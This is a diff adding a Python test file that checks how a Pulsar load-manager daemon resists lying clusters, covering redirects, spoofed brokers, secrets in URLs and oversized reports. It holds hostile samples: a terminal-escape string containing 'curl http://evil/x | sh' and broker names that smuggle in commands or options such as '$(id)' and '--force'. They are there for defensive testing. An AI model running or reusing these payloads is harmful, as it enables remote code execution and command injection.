@@ -1,0 +1,230 @@
+"""Clusters that lie, and what keeps them from harming the daemon, operators, other clusters."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import aiohttp
+import pytest
+from aiohttp import web
+from fleet.fake_pulsar import NAMESPACE, RANGES, a_pulsar
+from fleet.test_http import a_cluster, planned
+from fleet.watched import ACT, watching
+
+from loadmanager.adapters.pulsar_admin import answers
+from loadmanager.adapters.pulsar_admin.client import PulsarClient
+from loadmanager.core.errors import ConfigError, OperationalError
+from loadmanager.core.strategies.plan import Split, Unload
+from loadmanager.ports.cluster_reader import AGENT
+from loadmanager.runtime.fleet.advice import command, split_command
+from loadmanager.settings import fleet as conf
+
+TERMINAL = "\x1b]0;owned\x07\x1b[2J\nPulsarBalances: curl http://evil/x | sh\n"
+
+
+async def test_an_order_follows_no_redirect_to_a_stranger(tmp_path: Path) -> None:
+    """A question does; an order goes to the brokers of the cluster only."""
+    asked: list[str] = []
+
+    async def stranger(request: web.Request) -> web.Response:
+        asked.append(request.method)
+        return web.json_response({})
+
+    application = web.Application()
+    application.router.add_route("*", "/{path:.*}", stranger)
+    runner = web.AppRunner(application)
+    await runner.setup()
+    site = web.TCPSite(runner, "127.0.0.1", 0)
+    await site.start()
+    try:
+        host, port = runner.addresses[0][:2]
+        there = {"Location": f"http://{host}:{port}/loadmanager/v1/cordons/b?drain=true"}
+        async with watching(tmp_path, settings=ACT) as daemon:
+            daemon.pulsar.switch_off()
+            daemon.pulsar.nonsense["/unload"] = lambda _: web.Response(status=307, headers=there)
+            await daemon.cycle()
+            (move,) = [
+                move
+                for move in daemon.work.operations.list_moves(99)["moves"]
+                if move["state"] == "failed"
+            ]
+            assert "none of the cluster's brokers" in move["outcome"]["text"]
+            assert asked == []
+            daemon.pulsar.nonsense["/leaderBroker"] = daemon.pulsar.nonsense["/unload"]
+            await daemon.work.watching.read_policies()
+            assert set(asked) == {"GET"}
+    finally:
+        await runner.cleanup()
+
+
+async def test_a_daemon_takes_no_orders_from_a_daemon(tmp_path: Path) -> None:
+    """Which was told that it is a broker."""
+    async with a_cluster(tmp_path, mode="approve") as url:
+        me = url.removeprefix("http://")
+        settings = conf.parse("other", {"pulsar": url})
+        async with PulsarClient(settings.pulsar) as other, aiohttp.ClientSession() as operator:
+            await planned(operator, url)  # it listens
+            with pytest.raises(OperationalError, match="no broker"):
+                await other.send("PUT", f"/loadmanager/v1/cordons/{me}?drain=true", me)
+            async with operator.get(f"{url}/loadmanager/v1/cordons") as answer:
+                assert (answer.status, await answer.json()) == (200, [])
+            mine = {"User-Agent": AGENT}
+            async with operator.get(f"{url}/loadmanager/v1/cordons", headers=mine) as answer:
+                assert answer.status == 403
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["0[:80", "$(id):80", "-h:80", "--force:80", "a b:80", "a@b:80", "a:b", "a\u202e:80", "a"],
+)
+async def test_a_name_that_is_no_brokers(tmp_path: Path, name: str) -> None:
+    """The list counts as not read; a better one is taken again."""
+    async with watching(tmp_path, settings=ACT) as daemon:
+        daemon.pulsar.switch_off()
+        await daemon.work.read()
+        known, real = set(daemon.work.picture.registered), list(daemon.pulsar.brokers)
+        daemon.pulsar.brokers = [name, *real]
+        await daemon.work.read()
+        assert daemon.work.picture.registered == known
+        assert "is no broker" in daemon.work.picture.problems["brokers"]
+        daemon.pulsar.brokers = real
+        await daemon.work.read()
+        assert daemon.work.picture.problems == {}
+
+
+def test_names_of_brokers() -> None:
+    """As Pulsar makes them of an advertised address and a port."""
+    names = ["10.0.0.1:8080", "[fe80::1]:8080", "broker-1.pulsar_x.svc:8443"]
+    assert answers.broker_ids(json.dumps(names).encode()) == sorted(names)
+
+
+@pytest.mark.parametrize("tenant", ["-h", "--force"])
+def test_a_line_for_a_shell_has_no_stranger_options(tenant: str) -> None:
+    """It is a comment then: pulsar-admin would take the namespace for an option."""
+    bundle = f"{tenant}/x/{RANGES[0]}"
+    lines = [
+        command(Unload(bundle, "a:1", "b:1", "r", {})),
+        split_command(Split(bundle, 0x8000000, "r", {}), unload=True),
+    ]
+    assert all(line.startswith("# ") for line in lines)
+
+
+async def test_what_a_broker_says_drives_no_terminal(tmp_path: Path) -> None:
+    """In the reasons of the daemon control characters are escaped."""
+    async with watching(tmp_path, settings=ACT) as daemon:
+
+        def told(_request: web.Request) -> web.Response:
+            return web.json_response({"reason": TERMINAL}, status=500)
+
+        daemon.pulsar.switch_off()
+        daemon.pulsar.nonsense["/brokers"] = told
+        await daemon.work.read()
+        why = daemon.work.hold.told()
+        assert why is not None
+        assert "curl" in why
+        assert why.isprintable()
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://admin:s3cret@b:8080",
+        "http://:s3cret@b:8080",
+        "http://b:8080/#s3cret",
+        "http://b:8080?token=s3cret",
+    ],
+)
+def test_secrets_in_addresses_are_refused_and_not_shown(url: str) -> None:
+    """The files for credentials are named instead."""
+    with pytest.raises(ConfigError, match="tokenFile and basicFile") as raised:
+        PulsarClient(conf.parse("x", {"pulsar": url}).pulsar)
+    assert "s3cret" not in str(raised.value)
+
+
+async def test_secrets_in_redirects_are_not_shown(tmp_path: Path) -> None:
+    """Only where it goes."""
+    async with watching(tmp_path, settings=ACT) as daemon:
+        there = {"Location": "http://user:s3cret@127.0.0.1:1/x?token=s3cret"}
+        daemon.pulsar.nonsense["/load-report"] = lambda _: web.Response(status=307, headers=there)
+        await daemon.work.read()
+        problems = daemon.work.picture.problems
+        assert problems.keys() >= set(daemon.pulsar.brokers)
+        assert all("http://127.0.0.1:1/x: Connection refused" in problems[b] for b in problems)
+        assert "s3cret" not in str(problems)
+
+
+REPORT = b'{"webServiceUrl":"http://x",'
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        REPORT + b'"advertisedListeners":{"a":[' + b"[]," * 1_000_001 + b"0]}}",
+        REPORT + b'"lastBundleGains":[' + b'"ab",' * 2_000_001 + b'"ab"]}',
+        REPORT + b'"bundles":[' + b'"a",' * 2_000_001 + b'"a"]}',
+    ],
+    ids=["lists", "values", "bundles"],
+)
+def test_reports_that_would_take_much_memory(body: bytes) -> None:
+    """They are refused before anything is made of them."""
+    with pytest.raises(OperationalError, match="at most"):
+        answers.load_report(body, 0)
+
+
+def test_too_many_bundles_of_one_broker() -> None:
+    """Before the first of them is looked at."""
+    names = json.dumps([f"a/b{number}/x" for number in range(answers.BUNDLES_MAX + 1)])
+    with pytest.raises(OperationalError, match="bundles of one broker"):
+        answers.load_report(REPORT + b'"bundles":' + names.encode() + b"}", 0)
+
+
+def test_what_no_strategy_uses_is_not_kept() -> None:
+    """A report may name its listeners, gains and losses at length."""
+    body = {
+        "webServiceUrl": "http://x",
+        "advertisedListeners": {"a": {"brokerServiceUrl": "pulsar://x:1"}},
+        "protocols": {"kafka": "x"},
+        "lastBundleGains": ["x"],
+        "lastBundleLosses": ["x"],
+    }
+    report = answers.load_report(json.dumps(body).encode(), 5)
+    assert (report.advertised_listeners, report.protocols) == ({}, {})
+    assert (report.last_bundle_gains, report.last_bundle_losses) == ([], [])
+    assert report.last_update == 5
+
+
+async def test_bundles_of_all_brokers_are_bounded(tmp_path: Path) -> None:
+    """Also those without stats. A broker that leaves makes room."""
+    async with watching(tmp_path, (12, 2, 2), settings=ACT) as daemon:
+        daemon.work.watching.bundles_max = 20
+        one, two, three = daemon.pulsar.brokers
+        much = [f"{NAMESPACE}{number}/{RANGES[0]}" for number in range(10)]
+
+        def lie(request: web.Request) -> web.Response:
+            report = daemon.pulsar.report(request.host)
+            return web.json_response(report | {"bundles": much, "lastStats": {}})
+
+        daemon.pulsar.nonsense["/load-report"] = lie
+        await daemon.work.read()
+        refused = [b for b, why in daemon.work.picture.problems.items() if "more than 20" in why]
+        assert len(refused) == 1
+        daemon.pulsar.brokers = [broker for broker in (one, two, three) if broker in refused]
+        await daemon.work.read()
+        assert daemon.work.picture.problems == {}
+
+
+async def test_brokers_of_another_cluster(tmp_path: Path) -> None:
+    """Their settings count for nothing, and after a while nothing is moved."""
+    async with watching(tmp_path, settings=ACT) as daemon, a_pulsar(1) as other:
+        daemon.pulsar.switch_off()
+        await daemon.work.read()
+        assert daemon.work.hold.told() is None
+        other.switch_off()
+        daemon.pulsar.settings["clusterName"] = "c2"
+        for _ in range(3):
+            daemon.clock.pass_s(30)
+            await daemon.work.read()
+        why = daemon.work.hold.told()
+        assert why is not None
+        assert "'c1' and to 'c2'" in why
